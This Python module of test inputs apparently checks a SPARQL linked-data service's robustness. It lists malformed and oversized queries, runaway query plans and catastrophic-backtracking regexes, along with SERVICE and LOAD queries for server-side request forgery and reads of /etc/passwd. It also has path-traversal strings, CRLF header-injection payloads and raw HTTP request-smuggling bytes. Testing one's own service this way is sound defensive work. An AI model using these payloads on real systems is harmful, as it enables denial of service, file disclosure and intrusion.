"""What is sent to the service to bring it down: queries, addresses and bytes."""

N = 90_000
"""Bytes of a huge query: the service takes 100,000."""


def chain(part: str, joint: str = " ", before: str = "ASK { FILTER(", after: str = ") }") -> str:
    """A query as long as the service takes, of one part again and again."""
    return before + joint.join([part] * (N // len(part + joint))) + after


MALFORMED = {
    "no end": "SELECT * { ?s ?p ",
    "an open string": 'SELECT * { ?s ?p "',
    "an open IRI": "SELECT * { ?s ?p <http://",
    "a null": "SELECT * { ?s ?p ?o \0 }",
    "a byte order mark": "\ufeffSELECT * { ?s ?p ?o",
    "half a character": "ASK { ?s ?p '\\uD800' }",
    "no such escape": "ASK { ?s ?p '\\U00110000' }",
    "a million in an IRI": "ASK { <\\U000F4240> ?p }",
    "only comments": "# SELECT\n" * 3000,
    "right to left": "SELECT * { ?s ?p '\u202e' ",
    "two queries": "ASK {} ASK {}",
}
HUGE = {
    "brackets": "ASK " + "{" * N,
    "parentheses": chain("(", ""),
    "closed parentheses": f"ASK {{ FILTER({'(' * (N // 2)}1{')' * (N // 2)}) }}",
    "negations": chain("!", "", after="true) }"),
    "signs": chain("-", "", after="1) }"),
    "inverse paths": "ASK { ?s " + "^(" * 30_000 + "<p>" + ")" * 30_000 + " ?o }",
    "a long path": chain("<p>", "/", "ASK { ?s ", " ?o }"),
    "alternatives": chain("<p>", "|", "ASK { ?s ", " ?o }"),
    "sums": chain("1", "+"),
    "disjunctions": chain("?a", "||"),
    "comparisons": chain("?a = 1", " && "),
    "unions": chain("{}", " UNION ", "ASK { ", " }"),
    "optionals": chain("OPTIONAL{?a ?b ?c}", " ", "ASK { ", " }"),
    "patterns": chain("?a ?b ?c.", " ", "ASK { ", " }"),
    "other patterns": "ASK {" + "".join(f"?a{n} ?b{n} ?c{n}." for n in range(4000)) + "}",
    "blank nodes": "ASK { " + "[ <p> " * 12_000 + "1" + "]" * 12_000 + " }",
    "a list": chain("1", " ", "ASK { ?s ?p (", ") }"),
    "lists in lists": "ASK { ?s ?p " + "(" * (N // 2) + ")" * (N // 2) + " }",
    "values": chain("1", " ", "SELECT * { VALUES ?x {", "} }"),
    "an IN": chain("1", ",", "ASK { FILTER(?x IN (", ")) }"),
    "sub-queries": "SELECT * {" * 9000 + "}" * 9000,
    "prefixes": "".join(f"PREFIX p{n}: <urn:p>\n" for n in range(4500)) + "ASK {}",
    "a variable": f"SELECT ?{'x' * N} {{}}",
    "binds": "ASK {" + "".join(f"BIND(1 AS ?v{n})" for n in range(5000)) + "}",
    "negated existence": "ASK { " + "FILTER NOT EXISTS { " * 4000 + "}" * 4000 + " }",
}
RUNS_AWAY = {
    "a product": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "a product, distinct": "SELECT DISTINCT ?a ?e ?i { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "a product, ordered": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY STR(?c) STR(?f) LIMIT 1",
    "a product of two": "ASK { { SELECT * { ?a ?b ?c } } { SELECT * { ?d ?e ?f } } FILTER(?c = ?no) }",
    "a product in values": "SELECT (SUM(?a * ?b * ?c * ?d) AS ?n) { "
    + "".join(f"VALUES ?{name} {{ {' '.join(map(str, range(300)))} }} " for name in "abcd")
    + "}",
    "every path": "SELECT (COUNT(*) AS ?n) { ?s (<p>|!<p>)* ?o . ?o (<q>|!<q>)* ?x }",
    "every path and back": "SELECT (COUNT(*) AS ?n) { ?s (!<p>|^(!<p>))+ ?o . ?o (!<p>|^(!<p>))+ ?x }",
    "a growing string": 'ASK { BIND("0123456789" AS ?v0) '
    + "".join(f"BIND(CONCAT(?v{n}, ?v{n}) AS ?v{n + 1}) " for n in range(40))
    + "FILTER(STRLEN(?v40) = 0) }",
    "replacements": "ASK { BIND("
    + "REPLACE(" * 12
    + '"aaaaaaaaaa"'
    + ', "a", "aaaaaaaaaa")' * 12
    + " AS ?x) FILTER(STRLEN(?x) = 0) }",
    "mixed order": "SELECT ?x { VALUES ?x { "
    + " ".join(f'{n} "{n + 1}"' for n in range(40))
    + " } } ORDER BY ?x",
    "mixed order of a path": "SELECT ?x { ?s (<p>|!<p>)? ?x . VALUES ?y { 1 2 } } ORDER BY ?x LIMIT 1",
}
EXPLODES = {
    "nested": "(((a+)+)+)+$",
    "alternatives": "(a|a|aa|aaa)*b",
    "repeated": "(x{1,1000}){1,1000}",
    "repeated thrice": "((\\\\w{1,100}){1,100}){1,100}",
    "backtracking": "^(\\\\w+\\\\s?)+:$",
    "open": "(((((((((",
    "long": "(a?){50}a{50}",
}


OUTSIDE = [
    "SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ OPTIONAL {{ {{ SELECT * {{ sErViCe#x\n<{url}>{{ ?s ?p ?o }} }} }} }} }}",
    "SELECT * {{ VALUES ?e {{ <{url}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
    "SELECT * {{ \\u0053\\u0045RVICE <{url}> {{ ?s ?p ?o }} }}",
    "ASK {{ FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "LOAD <{url}>",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * FROM <{url}> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "DESCRIBE <{url}>",
    "SELECT * FROM <file:///etc/passwd> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <file:///etc/passwd> {{ GRAPH <file:///etc/passwd> {{ ?s ?p ?o }} }}",
    "LOAD <file:///etc/passwd>",
]
"""Queries that would reach a listener at `url`, or a file."""
TARGETS = [
    "/id/../../../../etc/passwd",
    "/../etc/passwd",
    "//etc/passwd",
    "/id//etc/passwd",
    "/id/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/id/..%2f..%2f..%2fetc%2fpasswd",
    "/id/%252e%252e%252fetc%252fpasswd",
    "/graph/..%5c..%5cpyproject.toml",
    "/id\\..\\..\\etc\\passwd",
    "/id/code/pledge/3%00.ttl",
    "/id/code/pledge/3.ttl%00",
    "/%00",
    "/graph/%2fetc%2fpasswd",
    "/static/..%2f..%2fsite.py",
    "/static/../../../pyproject.toml",
    "/ontology/../../etc/passwd",
    "/id/code/pledge/3/../../../../etc/passwd.txt",
    "/%c0%ae%c0%ae/etc/passwd",
    "/id/%ff%fe",
    "/.git/config",
    "/id/code/pledge/3;.ttl",
    "http://127.0.0.1/etc/passwd",
    "file:///etc/passwd",
    "*",
]


BREAK = "%0d%0aX-Evil:%20yes%0d%0a%0d%0a<script>"


BREAKING = [
    f"/id/code/pledge/3{BREAK}",
    f"/{BREAK}",
    f"/graph/{BREAK}",
    f"/sparql?query=ASK%20%7B%7D&default-graph-uri={BREAK}",
    f"/sparql?query={BREAK}",
    f"/data?graph={BREAK}",
    f"/api/clauses/{BREAK}",
    f"/api/search?q={BREAK}",
    f"/id/code?x={BREAK}",
]
STRANGE = {
    "a host with a space": b"GET / HTTP/1.1\r\nHost: a b\r\n\r\n",
    "a name with a space": b"GET / HTTP/1.1\r\nHost: x\r\nX y: z\r\n\r\n",
    "a null in a header": b"GET / HTTP/1.1\r\nHost: x\r\nAccept: \0\r\n\r\n",
    "two lengths": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 60\r\n\r\nASK",
    "length and chunks": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
    "a negative length": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    "no number": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: ten\r\n\r\n",
    "bad chunks": b"POST /sparql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
    "no method": b"\r\n\r\n\r\n\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    "an old version": b"GET / HTTP/0.9\r\n\r\n",
    "a long line": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "a long header": b"GET / HTTP/1.1\r\nHost: x\r\nAccept: " + b"a" * 200_000 + b"\r\n\r\n",
    "many headers": b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 20_000 + b"\r\n",
    "a websocket": b"GET /sparql HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
    "many types": b"GET /sparql HTTP/1.1\r\nHost: x\r\nAccept: " + b"a/b;q=0.1," * 5000 + b"*/*\r\n\r\n",
    "many ranges": b"GET /id/code.ttl HTTP/1.1\r\nHost: x\r\nRange: bytes=" + b"0-," * 5000 + b"0-\r\n\r\n",
}
